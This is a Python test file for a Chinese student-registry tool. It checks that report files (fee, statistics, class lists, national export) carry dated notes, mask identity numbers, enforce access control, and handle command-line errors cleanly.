    total follow in a block of their own, headed ``按付费单位小计 subtotals by payer``,
    their figures text (``5 人``, ``2.5 元``) a column sum skips; the total is a note
    too. Summing the fee column gives the scope's total, once."""
    small(province)
    table = statistics.maintenance_fee(
        province.reg.statistics(PROVINCE), province.reg.policy()
    ).table()
    excel.write_table(tmp_path / "fee.xlsx", table)
    excel.write_table(tmp_path / "fee.csv", table)
    sheet = openpyxl.load_workbook(tmp_path / "fee.xlsx").active
    assert sheet is not None
    rows = list(excel.without_notes(sheet.iter_rows(values_only=True)))[1:]
    blank = next(i for i, r in enumerate(rows) if all(v in (None, "") for v in r))
    body, block = rows[:blank], rows[blank + 1 :]
    assert len(body) == 4  # H, A, B, W
    assert all(isinstance(v, int | float) for r in body for v in r[3:])  # not text
    # a spreadsheet's SUM of the whole column counts numbers only: the scope's total
    assert sum(r[4] for r in rows if len(r) > 4 and isinstance(r[4], int | float)) == 3.5
    assert sum(r[2] for r in rows if len(r) > 2 and isinstance(r[2], int)) == 7
    assert block[0][0] == "按付费单位小计 subtotals by payer"
    assert [tuple(r[:5]) for r in block[1:]] == [
        ("3401", "小计 subtotal", "1 人", None, "0.5 元"),
        ("340104", "小计 subtotal", "5 人", None, "2.5 元"),
        ("340202", "小计 subtotal", "1 人", None, "0.5 元"),
        ("34", "总计 total", "7 人", None, "3.5 元"),
    ]
    assert any(n.startswith("合计 total: 在籍 7 人，费用 3.5 元") for n in table.notes)
    with open(tmp_path / "fee.csv", encoding="utf-8-sig") as f:
        got = list(excel.without_notes(csv.reader(f)))[1:]
    assert [r[3] for r in got[:blank]] == ["0.5"] * len(body)
    assert got[blank] == []
    assert got[-1] == ["34", "总计 total", "7 人", "", "3.5 元"]


def _leading(path: Path) -> list[str]:
    """The rows of a report file above its header: the first cell of each, while it
    starts with ``#`` (in a workbook, of its first sheet)."""
    if path.suffix == ".csv":
        with open(path, encoding="utf-8-sig", newline="") as f:
            rows: list[Any] = list(csv.reader(f))
    else:
        wb = openpyxl.load_workbook(path, read_only=True)
        rows = [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]
        wb.close()
    lead = []
    for row in rows:
        if not (isinstance(row[0], str) and row[0].startswith("#")):
            break
        assert all(v in (None, "") for v in row[1:]), row  # one cell each
        lead.append(row[0])
    return lead


def test_art28_a_report_table_carries_its_date_scope_and_article(
    province: Province, tmp_path: Path
) -> None:
    """Found by the statistics review: a written report held its rows only, the CSV
    not even its title; the fee's non-October warning went to the screen only. Each
    report's table carries its notes, written above the header in both formats."""
    small(province)
    province.at(D(2026, 12, 1))
    stats = province.reg.statistics(authority("340104"))
    fee = statistics.maintenance_fee(province.reg.statistics(PROVINCE), province.reg.policy())
    tables = {
        "stats": statistics.stats_table(stats),
        "fee": fee.table(),
        "classlist": statistics.public_list_table(
            "A", province.reg.public_class_list(A, "A"), taken_on=province.reg.today()
        ),
    }
    for name, table in tables.items():
        for suffix in (".csv", ".xlsx"):
            path = tmp_path / f"{name}{suffix}"
            excel.write_table(path, table)
            lead = _leading(path)
            assert lead[0] == f"# {table.title}", path
            assert lead[1:] == [f"# {n}" for n in table.notes], path
            assert "2026-12-01" in lead[1] or "2026-12-01" in lead[2], path
            assert any("依据 article: 皖教基〔2013〕20号" in line for line in lead), path
    assert tables["stats"].notes == (
        "统计日期 date of the count: 2026-12-01",
        "范围 scope: 340104 及其辖区 (340104 and its jurisdiction)",
        "依据 article: 皖教基〔2013〕20号 第二十八条 (皖教基〔2013〕20号 Art 28)",
    )
    assert fee.warnings
    assert all(f"注意 warning: {w}" in fee.table().notes for w in fee.warnings)
    assert "范围 scope: 34 及其辖区 (34 and its jurisdiction)" in fee.table().notes
    assert any("第三十一条" in n for n in tables["classlist"].notes)


def test_art31_the_class_list_shows_sex_in_chinese_as_its_status(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: the 公示 class list wrote 性别 as M/F beside a status
    in Chinese (在籍), where the national export writes 男/女; it is posted on a class
    notice board."""
    province.register("A", 1, name="张一")
    province.register("A", 1, name="李二", sex="F")
    rows = province.reg.public_class_list(A, "A")
    assert [(r.name, r.sex, r.status) for r in rows] == [
        ("张一", "男", "在籍"),
        ("李二", "女", "在籍"),
    ]
    path = tmp_path / "classlist.csv"
    excel.write_table(path, statistics.public_list_table("A", rows, taken_on=province.reg.today()))
    table = list(excel.without_notes(csv.reader(path.open(encoding="utf-8-sig"))))
    assert [r[3] for r in table[1:]] == ["男", "女"]


def test_a_report_s_notes_lead_every_sheet_and_a_reader_skips_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The notes are rows of one cell starting with ``#`` above the header, on every
    sheet of a workbook; in a CSV each note's line starts with ``#`` (never quoted);
    an identity number in a note is masked; ``excel.without_notes`` gives the bare
    table back."""
    number = make_id(BORN)
    notes = ("注意 warning: a, b\nc", f"学生 {number}")
    table = excel.Table("t", ("id", "n"), [(f"S{i}", i) for i in range(5)], notes)
    excel.write_table(tmp_path / "t.csv", table)
    lines = (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[:3] == ["# t", "# 注意 warning: a， b c", f"# 学生 {mask_ids(number)}"]
    assert lines[3:] == ["id,n", *(f"S{i},{i}" for i in range(5))]
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        assert list(excel.without_notes(csv.reader(f))) == [["id", "n"]] + [
            [f"S{i}", str(i)] for i in range(5)
        ]
    monkeypatch.setattr(excel, "SHEET_ROWS", 6)  # three notes, the header and two rows
    excel.write_table(tmp_path / "t.xlsx", table)
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx", read_only=True)
    assert len(wb.sheetnames) == 3
    got: list[tuple[object, ...]] = []
    for ws in wb.worksheets:
        sheet = list(ws.iter_rows(values_only=True))
        assert len(sheet) <= 6
        assert [r[0] for r in sheet[:3]] == ["# t", "# 注意 warning: a, b c", lines[2]]
        bare = list(excel.without_notes(sheet))
        assert bare[0] == ("id", "n")
        got.extend(bare[1:])
    wb.close()
    assert got == [(f"S{i}", i) for i in range(5)]
    assert excel.Table("t", ("a",), [], "one note").notes == ("one note",)


def test_art5_only_the_national_export_has_full_id_numbers(tmp_path: Path) -> None:
    p = Province()
    small(p)
    ids = [s.id_number for s in p.reg.students_of(PROVINCE, "A") if s.id_number]
    for name, table in [
        ("stats.xlsx", statistics.stats_table(p.reg.statistics(PROVINCE))),
        ("fee.csv", statistics.maintenance_fee(p.reg.statistics(PROVINCE), p.reg.policy()).table()),
        ("public.csv", excel.Table("x", ("a",), [(r,) for r in p.reg.public_class_list(A, "A")])),
    ]:
        excel.write_table(tmp_path / name, table)
        assert not any(i in _dump(tmp_path / name) for i in ids), name
    reads = len([e for e in p.log() if e.command == "read_sensitive"])
    records = p.reg.national_export(authority("340104"))
    assert {r.school for r in records} == {"A", "B"}
    excel.write_table(tmp_path / "national.csv", statistics.national_table(records))
    text = _dump(tmp_path / "national.csv")
    assert all(i in text for i in ids)
    assert len([e for e in p.log() if e.command == "read_sensitive"]) == reads + 1
    assert not any(i in repr(records) for i in ids)
    with pytest.raises(AccessDenied):
        p.reg.national_export(A)


def test_art30_an_identity_number_in_a_name_is_masked_in_every_report(tmp_path: Path) -> None:
    """Found by the reports review: a report's rows did not go through ``mask_ids``,
    so a name holding an identity number (a data-entry slip the registry accepts)
    was printed whole in the public 公示 class list and in the migrant summary handed
    to another county. Every text cell of every report is masked now, but the
    national export's identity columns (学籍号, 身份证件号, 监护人身份证件号)."""
    p = Province()
    slip = make_id(D(2019, 3, 1))
    s = p.register("A", 4, migrant=True, hukou_region="341221", name=f"张三{slip}")
    shown = f"张三{mask_ids(slip)}"
    assert [r.name for r in p.reg.public_class_list(A, "A")] == [shown]
    p.at(D(2026, 10, 12))
    out = p.reg.record_dropout(A, s.id, "辍学")
    assert out.request is not None
    p.reg.approve(authority("340104"), out.request.id)
    term = {"start": D(2026, 9, 1), "end": D(2027, 1, 31)}
    summary = p.reg.migrant_dropouts(authority("3401"), **term)
    assert [d.name for d in summary["341221"]] == [shown]
    kept = p.register("A", 4, name=f"李四{slip}")  # 在籍, for the class list
    tables = {
        "classlist": statistics.public_list_table(
            "A", p.reg.public_class_list(A, "A"), taken_on=p.reg.today()
        ),
        "migrants": statistics.migrants_table(
            summary, **term, scope="3401", taken_on=D(2027, 1, 31)
        ),
        "stats": statistics.stats_table(
            statistics.Statistics(
                D(2026, 10, 15),
                "34",
                (
                    statistics.StatRow(
                        "3401", "", slip, Stage.PRIMARY, 1, StudentStatus.REGISTERED, 1
                    ),
                ),
            )
        ),
    }
    for name, table in tables.items():
        for suffix in (".csv", ".xlsx"):
            path = tmp_path / f"{name}{suffix}"
            excel.write_table(path, table)
            text = _dump(path)
            assert slip not in text, path
            assert mask_ids(slip) in text, path
    # the national export: the identity columns whole (for the national system), a
    # number typed into the name masked as everywhere else
    row = next(
        statistics.national_row(r)
        for r in p.reg.national_export(PROVINCE)
        if r.id_number == kept.id_number
    )
    assert row[1] == kept.id_number
    assert row[3] == f"李四{mask_ids(slip)}"
    assert slip not in repr(p.reg.national_export(PROVINCE))


def test_art5_the_national_export_leaves_out_voided_records(province: Province) -> None:
    """Found by the review: a child whose transfer in from another province was
    rejected (the record 作废: they never joined) went to the national system, full
    identity number and all. A voided record is not in this province's registry (Art
    30, PIPL Art 6): the export, and the count its read logs, leave it out."""
    p = province
    kept = p.register("A", 2, name="在籍")
    birth = D(2018, 5, 1)
    idn = make_id(birth)
    out = p.reg.transfer_in(
        A,
        origin="江苏",
        abroad=False,
        school="A",
        class_id="A-2",
        grade=2,
        name="外省",
        sex="M",
        birth_date=birth,
        hukou_region="320102",
        registry_number="G" + idn,
        photo=Photo(p.today(), "x"),
        stated_reason="随父母",
    )
    assert out.request is not None
    assert p.reg.reject(A, out.request.id, "材料不实").allowed
    assert p.reg.student(PROVINCE, out.request.student).status is StudentStatus.VOIDED
    for actor in (PROVINCE, authority("340104")):
        records = p.reg.national_export(actor)
        assert [(r.name, r.id_number) for r in records] == [("在籍", kept.id_number)]
        sent: list[statistics.NationalRecord] = []
        assert p.reg.national_export_to(actor, sent.append) == 1
        assert sent == records
        assert idn not in repr([attrs.asdict(r) for r in records])
    assert p.log()[-1].after["records"] == "1"  # the read logged: one record


def test_art5_the_national_export_s_stage_and_entry_month_read_as_their_headers(
    tmp_path: Path,
) -> None:
    """The national export's 学段 said ``primary`` in a file whose headers and other
    values (性别 男, 学籍状态 在籍) are Chinese, and 入学年月 (year and month) held a
    whole date. 学段 is the stage's Chinese name, as ``report stats`` prints it; 入学年月
    is ``YYYY-MM``."""
    p = Province()
    small(p)
    records = p.reg.national_export(PROVINCE)
    assert {r.stage for r in records} == {"小学", "高中"}
    excel.write_table(tmp_path / "national.csv", statistics.national_table(records))
    with open(tmp_path / "national.csv", encoding="utf-8-sig") as f:
        header, *rows = list(csv.reader(f))
    stage, entered = header.index("学段"), header.index("入学年月")
    assert {r[stage] for r in rows} == {"小学", "高中"}
    assert {r[entered] for r in rows} == {"2026-09"}
    assert {r.entry_date for r in records} == {D(2026, 9, 1)}  # the record keeps the day


def _dump(path: Path) -> str:
    if path.suffix == ".csv":
        with open(path, encoding="utf-8-sig") as f:
            return json.dumps(list(csv.reader(f)), ensure_ascii=False)
    wb = openpyxl.load_workbook(path, read_only=True)
    text = " ".join(
        str(v) for ws in wb.worksheets for r in ws.iter_rows(values_only=True) for v in r
    )
    wb.close()
    return text


# -- the command line ----------------------------------------------------------------------------


def test_cli_import_and_reports(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "cli.sqlite3"
    p = Province(store=SqlStore.sqlite(str(db)))
    small(p)
    p.store.engine.dispose()
    path, _ = mixed(tmp_path)
    store = ["--store", f"sqlite:///{db}", "--today", "2026-10-15"]
    out = tmp_path / "r.xlsx"
    args = ["import", "students", str(path), *store, "--as", "school:A", "--report", str(out)]
    assert main([*args, "--all-or-nothing"]) == 1
    assert "nothing written" in capsys.readouterr().out
    assert main(["--json", *args, "--partial"]) == 1
    data = json.loads(capsys.readouterr().out)
    assert [a["row"] for a in data["applied"]] == [2, 7]
    assert out.exists()
    assert (
        main(
            [
                "--json",
                "report",
                "fee",
                *store,
                "--as",
                "province:34",
                "--out",
                str(tmp_path / "f.csv"),
            ]
        )
        == 0
    )
    fee = json.loads(capsys.readouterr().out)
    assert (fee["students"], fee["fee"]) == (7, "3.5")
    for what in ("stats", "national"):
        target = tmp_path / f"{what}.xlsx"
        assert main(["report", what, *store, "--as", "county:340104", "--out", str(target)]) == 0
        assert target.exists()
    capsys.readouterr()
    listed = tmp_path / "classlist.csv"
    classlist = ["--json", "report", "classlist", *store, "--as", "school:A", "--out", str(listed)]
    assert main([*classlist, "--school", "A"]) == 0
    assert json.loads(capsys.readouterr().out)["rows"] >= 1
    text = listed.read_text(encoding="utf-8-sig")
    assert text.splitlines()[0] == "# 公示 class list A"
    assert next(excel.without_notes(csv.reader(text.splitlines()))) == [
        "班级 class",
        "年级 grade",
        "姓名 name",
        "性别 sex",
        "学籍状态 status",
    ]
    assert "3401" not in text  # Art 31: no identity number, registry number or 户籍
    assert main(classlist) == 2  # --school is required
    capsys.readouterr()
    migr = ["report", "migrants", *store, "--as", "city:3401", "--out", str(tmp_path / "m.xlsx")]
    assert main([*migr, "--start", "2026-09-01", "--end", "2027-01-31"]) == 0
    capsys.readouterr()
    assert (
        main(["report", "national", *store, "--as", "school:A", "--out", str(tmp_path / "n.csv")])
        == 2
    )
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "access.denied" in err
    assert (
        main(["import", "students", str(tmp_path / "none.xlsx"), *store, "--as", "school:A"]) == 2
    )
    with pytest.raises(SystemExit) as usage:
        main(["report", "stats", *store, "--as", "nobody", "--out", "x.csv"])
    assert usage.value.code == 2


def test_a_table_longer_than_a_sheet_continues_on_the_next(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Excel does not load rows past a sheet's 1,048,576: a longer report continues on
    sheets titled ``... (2)``, ``... (3)``, each with the header, no row lost."""
    import openpyxl

    monkeypatch.setattr(excel, "SHEET_ROWS", 3)  # the header and two rows a sheet
    rows = [(f"S{i}", i) for i in range(5)]
    long_title = "全国学籍系统导出 national export of a county"
    excel.write_tables(
        tmp_path / "t.xlsx",
        [excel.Table(long_title, ("id", "n"), rows), excel.Table("empty", ("a",), [])],
    )
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx", read_only=True)
    first = excel._sheet_title(long_title)
    assert wb.sheetnames == [first, first[:27] + " (2)", first[:27] + " (3)", "empty"]
    assert all(len(name) <= 31 for name in wb.sheetnames)
    got = []
    for name in wb.sheetnames[:3]:
        sheet = list(wb[name].iter_rows(values_only=True))
        assert sheet[0] == ("id", "n")
        assert len(sheet) <= 3
        got.extend(sheet[1:])
    assert got == rows
    assert list(wb["empty"].iter_rows(values_only=True)) == [("a",)]
    wb.close()


def _cli_store(tmp_path: Path) -> list[str]:
    db = tmp_path / "cli.sqlite3"
    p = Province(store=SqlStore.sqlite(str(db)))
    small(p)
    p.store.engine.dispose()
    return ["--store", f"sqlite:///{db}", "--today", "2026-10-15"]


def test_art28_report_stats_json_says_what_it_counts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the review: ``report stats --json`` gave one "total", every record of
    the jurisdiction (drafts, records under review, dropouts, 作废 records) under a
    name read as the students 在籍. The summary gives ``records`` (all), ``enrolled``
    (registered or suspended, as the fee counts) and ``by_status``; ``total`` stays,
    the same as ``records``."""
    db = tmp_path / "cli.sqlite3"
    p = Province(store=SqlStore.sqlite(str(db)))
    small(p)  # 7 registered, 1 draft
    sick, gone = p.register("A", 2), p.register("A", 3)
    p.at(D(2026, 10, 12))
    for s, change in ((sick, p.reg.suspend), (gone, p.reg.record_dropout)):
        req = change(A, s.id, "x").request
        assert req is not None
        assert p.reg.approve(authority("340104"), req.id).allowed
    p.store.engine.dispose()
    store = ["--store", f"sqlite:///{db}", "--today", "2026-10-15", "--as", "province:34"]
    out = str(tmp_path / "s.csv")
    assert main(["--json", "report", "stats", *store, "--out", out]) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["records"], data["enrolled"], data["total"]) == (10, 8, 10)
    assert {k: n for k, n in data["by_status"].items() if n} == {
        "draft": 1,
        "registered": 7,
        "suspended": 1,
        "dropped_out": 1,
    }
    assert set(data["by_status"]) == {s.value for s in StudentStatus}
    assert data["migrant"] == {"records": 0, "enrolled": 0}
    assert main(["report", "stats", *store, "--out", out]) == 0
    assert "在籍 enrolled 8, 记录 records 10" in capsys.readouterr().out


def test_art28_report_stats_counts_migrant_and_special_needs_students(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``xueji report stats`` gives the 随迁子女 and 残疾学生 counts: two columns of the
    file (Chinese headers), and in ``--json`` among the records and those 在籍."""
    db = tmp_path / "cli.sqlite3"
    p = Province(store=SqlStore.sqlite(str(db)))
    _flagged(p)
    p.store.engine.dispose()
    store = ["--store", f"sqlite:///{db}", "--today", "2026-10-15", "--as", "county:340104"]
    out = tmp_path / "s.csv"
    assert main(["--json", "report", "stats", *store, "--out", str(out)]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["migrant"] == {"records": 3, "enrolled": 2}
    assert data["special_needs"] == {"records": 2, "enrolled": 2}
    assert data["warnings"] == []
    text = out.read_text(encoding="utf-8-sig")
    assert "随迁子女 migrant,残疾学生 special needs" in text
    assert main(["report", "stats", *store, "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "在籍中 of them 随迁子女 migrant 2, 残疾学生 special needs 2" in printed


def test_art28_the_report_commands_of_the_docs_run_on_a_store_written_since(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """docs/reports.md's fee command took ``--today 2026-10-15``: a reader who had
    followed docs/excel.md's walk-through later than that (the log's last entry dated
    the day they ran it) was refused, ``cli.today_backwards``, exit 2. Every command of
    the page's command-line block runs, as written, on a store last written today (in
    China time) and on or after every ``--today`` it names. (A store written after
    today is refused to the commands that write or log a read, ``national`` among
    them: their date would be before the log's last entry.)"""
    doc = (Path(__file__).resolve().parent.parent / "docs" / "reports.md").read_text("utf-8")
    block = doc.split("\n## Command line\n", 1)[1].split("```text\n", 1)[1].split("```", 1)[0]
    commands = [shlex.split(line) for line in block.splitlines() if line.strip()]
    assert [c[:3] for c in commands] == [
        ["xueji", "report", what] for what in ("stats", "fee", "migrants", "national")
    ]
    named = [
        dt.date.fromisoformat(c[i + 1])
        for c in commands
        for i, a in enumerate(c)
        if a == "--today" and re.fullmatch(r"\d{4}-\d{2}-\d{2}", c[i + 1])
    ]
    from xueji.clock import SystemClock

    last = max([SystemClock().today(), *named])
    db = tmp_path / "registry.db"
    p = Province(store=SqlStore.sqlite(str(db)))
    small(p)
    p.at(last)  # the reader's last entry: a class opened on that day
    p.reg.add_class(school_actor("A"), SchoolClass("A-9", "A", "一年级9班", 1, "王老师", last))
    p.store.engine.dispose()
    for command in commands:
        argv = [f"sqlite:///{db}" if a == "sqlite:///registry.db" else a for a in command[1:]]
        out = argv.index("--out") + 1
        argv[out] = str(tmp_path / argv[out])
        assert main(argv) == 0, (command, capsys.readouterr().err)
        assert Path(argv[out]).exists()
        capsys.readouterr()


def test_cli_import_and_report_take_holiday_files_for_their_deadlines(tmp_path: Path) -> None:
    """A registry opened by ``xueji import`` or ``report`` counted working days on the
    built-in calendar only: a year it lacks was ``calendar.not_covered`` with no way to
    give it. ``--holidays`` (as ``xueji deadline`` takes) loads it."""
    import xueji.cli
    from xueji.errors import CalendarNotCovered

    store = _cli_store(tmp_path)
    schedule = tmp_path / "2027.toml"
    schedule.write_text('[2027]\nholidays = ["2027-01-01"]\n', encoding="utf-8")
    common = ["--as", "province:34", *store]
    args = xueji.cli.build_parser().parse_args(["report", "stats", "--out", "r.csv", *common])
    with pytest.raises(CalendarNotCovered, match="--holidays"):
        xueji.cli._registry(args).calendar.schedule(2027)
    args = xueji.cli.build_parser().parse_args(
        ["report", "stats", "--out", "r.csv", *common, "--holidays", str(schedule)]
    )
    assert dt.date(2027, 1, 1) in xueji.cli._registry(args).calendar.schedule(2027).holidays


def test_cli_an_import_whose_output_pipe_is_closed_still_writes_its_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """``xueji import ... | head``: the rows are committed before the summary is
    printed; a closed pipe there left no report workbook to say which."""
    import xueji.cli

    store = _cli_store(tmp_path)
    path, _ = mixed(tmp_path)
    out = tmp_path / "r.xlsx"

    def closed(*_: Any) -> None:
        raise BrokenPipeError(32, "Broken pipe")

    monkeypatch.setattr(xueji.cli, "_emit", closed)
    args = ["import", "students", str(path), *store, "--as", "school:A", "--partial"]
    assert main([*args, "--report", str(out)]) == xueji.cli.EXIT_PIPE_CLOSED == 141
    assert capsys.readouterr().err == ""  # (captured: pytest's own output is not closed)
    assert out.exists()
    applied = openpyxl.load_workbook(out)["已导入 applied"]
    assert applied.max_row == 3  # header + the two rows written


@pytest.mark.parametrize("who", ["province:35", "county:999999", "school:NOPE", "city:34"])
def test_cli_acting_as_a_unit_the_store_does_not_hold_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], who: str
) -> None:
    """An unknown province code exported the province under a unit that does not
    exist; an unknown county or school gave an empty report (exit 0)."""
    out = tmp_path / "n.csv"
    args = ["report", "national", *_cli_store(tmp_path), "--as", who, "--out", str(out)]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.startswith("xueji: [not_found.unit] ")
    assert not out.exists()


def test_cli_a_refused_report_keeps_the_earlier_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = _cli_store(tmp_path)
    out = tmp_path / "nat.csv"
    assert main(["report", "national", *store, "--as", "province:34", "--out", str(out)]) == 0
    before = out.read_bytes()
    assert main(["report", "national", *store, "--as", "school:W", "--out", str(out)]) == 2
    assert "access" in capsys.readouterr().err
    assert out.read_bytes() == before  # neither truncated nor deleted
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_cli_an_output_path_that_cannot_be_written_is_refused_before_any_work(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = _cli_store(tmp_path)
    path, _ = mixed(tmp_path)
    missing = str(tmp_path / "no" / "such" / "r.xlsx")
    for args in (
        ["import", "students", str(path), *store, "--as", "school:A", "--partial"],
        ["report", "stats", *store, "--as", "province:34"],
    ):
        flag = "--report" if args[0] == "import" else "--out"
        assert main([*args, flag, missing]) == 2
        _, err = capsys.readouterr()
        assert err.startswith("xueji: [cli.output_path] ")
        assert "Traceback" not in err
    # the import did not run: its good rows are not in the store
    assert main(["import", "students", str(path), *store, "--as", "school:A", "--partial"]) == 1
    assert "2 已导入 applied" in capsys.readouterr().out


def test_cli_errors_are_one_line_and_ctrl_c_is_exit_130(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from xueji import cli

    assert main(["demo", "--db", str(tmp_path / "no" / "x.db")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("xueji: [storage.unavailable] ")
    assert len(err.strip().splitlines()) == 1

    def interrupted(args: object) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr(cli, "cmd_demo", interrupted)
    parser = cli.build_parser()
    monkeypatch.setattr(cli, "build_parser", lambda: parser)
    for action in parser._subparsers._group_actions:  # type: ignore[union-attr]
        action.choices["demo"].set_defaults(func=interrupted)  # type: ignore[index]
    assert main(["demo"]) == cli.EXIT_INTERRUPTED == 130
    assert "interrupted" in capsys.readouterr().err


def test_cli_an_import_cannot_be_backdated_before_the_log(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--today`` earlier than the last change would slip a late entry under the
    30 September deadline (Art 15) and out of the Art 32 report."""
    store = _cli_store(tmp_path)  # its province's log runs to 2026-09-01 and later
    path, _ = mixed(tmp_path)
    args = ["import", "students", str(path), *store[:2], "--as", "school:A", "--partial"]
    assert main([*args, "--today", "2020-09-01"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("xueji: [cli.today_backwards] ")
    assert "导入不能倒签日期" in err
    assert "an import cannot be backdated" in err
    # a report is named as one (it was told "an import cannot be backdated")
    report = ["report", "stats", "--out", str(tmp_path / "s.csv"), *store[:2]]
    assert main([*report, "--as", "province:34", "--today", "2020-09-01"]) == 2
    err = capsys.readouterr().err
    assert "报告不能倒签日期" in err
    assert "a report cannot be backdated" in err
    assert main([*args, "--today", "2026-10-15"]) == 1  # not before: imported (2 of 6 rows)


def test_cli_a_csv_import_report_and_a_reversed_term_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = _cli_store(tmp_path)
    path, _ = mixed(tmp_path)
    imp = ["import", "students", str(path), *store, "--as", "school:A", "--partial"]
    assert main([*imp, "--report", str(tmp_path / "r.csv")]) == 2
    assert "[cli.output_path]" in capsys.readouterr().err
    term = ["--start", "2027-01-31", "--end", "2026-09-01", "--out", str(tmp_path / "m.csv")]
    assert main(["report", "migrants", *store, "--as", "province:34", *term]) == 2
    assert "[cli.term]" in capsys.readouterr().err


def test_cli_the_fee_reports_warning_is_shown_in_text_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = _cli_store(tmp_path)
    args = ["report", "fee", store[0], store[1], "--today", "2026-11-20", "--as", "province:34"]
    assert main([*args, "--out", str(tmp_path / "f.csv")]) == 0
    out = capsys.readouterr().out
    assert "not an October count" in out


def test_notice_item3_the_report_files_carry_their_date_scope_article_and_warnings(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the statistics review: ``report stats`` wrote a CSV with no date of the
    count, ``report fee`` counted on 2026-11-20 gave its non-October warning on the
    screen only (docs/reports.md: "written all the same, with a note"), ``report
    migrants`` no term and no issuing unit, and no file named its article. Each file
    now starts with its title and notes, a row of one ``#`` cell each.

    Found by the reports review: the files named units and schools by code only, not
    who made them, and the rate column no unit. The scope, the issuing unit and the
    school carry their names beside their codes, a ``制表人 operator`` line follows
    the date (``--operator``), and the fee's rate column says 元/生/年."""
    store = _cli_store(tmp_path)
    common = [store[0], store[1], "--today", "2026-11-20", "--operator", "王老师"]
    runs = {
        "stats": ["--as", "county:340104"],
        "fee": ["--as", "province:34"],
        "migrants": ["--as", "city:3401", "--start", "2026-09-01", "--end", "2027-01-31"],
        "classlist": ["--as", "school:A", "--school", "A"],
    }
    for what, args in runs.items():
        for suffix in (".csv", ".xlsx"):
            out = tmp_path / f"{what}{suffix}"
            assert main(["report", what, *common, *args, "--out", str(out)]) == 0
            capsys.readouterr()
            lead = _leading(out)
            assert lead, out
            text = "\n".join(lead)
            assert "2026-11-20" in text, out
            assert "依据 article: 皖教基〔2013〕20号" in text, out
            assert not re.search(r"\d{17}[\dX]", text), out  # no identity number
            made_by = lead.index("# 制表人 operator: 王老师")
            assert "2026-11-20" in lead[made_by - 1], out  # after the date
            if what == "fee":
                assert lead[0] == "# 维护费 maintenance fee 2026"
                assert (
                    "# 范围 scope: 34 安徽省教育厅 及其辖区 (34 安徽省教育厅 and its jurisdiction)"
                ) in lead
                assert any("not an October count" in line for line in lead), out
                assert "标准 rate (元/生/年)" in _header(out)
            if what == "stats":
                assert lead[0] == "# 学籍统计 statistics 2026-11-20"
                assert (
                    "# 范围 scope: 340104 蜀山区教育体育局 及其辖区 "
                    "(340104 蜀山区教育体育局 and its jurisdiction)"
                ) in lead
                assert "Art 28" in text
            if what == "migrants":
                assert "# 学期 term: 2026-09-01 至 2027-01-31 (2026-09-01 to 2027-01-31)" in lead
                assert "# 编制单位 issued by: 3401 合肥市教育局" in lead
                assert "Art 27(3)" in text
            if what == "classlist":
                assert "# 学校 school: A 蜀山实验小学" in lead


def _header(path: Path) -> list[str]:
    """The header row of a report file (the first row after its notes)."""
    if path.suffix == ".csv":
        with open(path, encoding="utf-8-sig", newline="") as f:
            return list(next(iter(excel.without_notes(csv.reader(f)))))
    wb = openpyxl.load_workbook(path, read_only=True)
    rows = wb.worksheets[0].iter_rows(values_only=True)
    header = [str(v) for v in next(iter(excel.without_notes(rows)))]
    wb.close()
    return header


def test_art28_a_report_file_under_another_profile_cites_anhui_s_article_as_inherited(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the review of the merged branches: under ``--policy national-2013`` the
    report files cited 皖教基〔2013〕20号 Arts 28, 27(3), 31 and the notice's item 3
    unmarked, as the profile's own. The notes cite them as the profile in force shows
    them (``Policy.as_cited``): marked inherited, in Chinese and English; the fee's
    ``--json`` article too. Under Anhui's profile the notes are as before (above)."""
    store = _cli_store(tmp_path)
    common = [*store, "--policy", "national-2013"]
    runs = {
        "stats": (["--as", "county:340104"], "第二十八条", "Art 28"),
        "fee": (["--as", "province:34"], "通知第三项", "item 3"),
        "migrants": (
            ["--as", "city:3401", "--start", "2026-09-01", "--end", "2027-01-31"],
            "第二十七条第三款",
            "Art 27(3)",
        ),
        "classlist": (["--as", "school:A", "--school", "A"], "第三十一条", "Art 31"),
    }
    for what, (args, zh, en) in runs.items():
        out = tmp_path / f"{what}.csv"
        assert main(["report", what, *common, *args, "--out", str(out)]) == 0, what
        capsys.readouterr()
        (cited,) = [line for line in _leading(out) if "依据 article" in line]
        assert zh in cited, cited
        assert en in cited, cited
        assert "沿用 anhui-2013" in cited, cited
        assert "inherited from anhui-2013" in cited, cited
    assert main(["--json", "report", "fee", *common, "--as", "province:34", "--out", str(out)]) == 0
    assert json.loads(capsys.readouterr().out)["article"] == (
        "皖教基〔2013〕20号（通知第三项；沿用 anhui-2013）"
    )


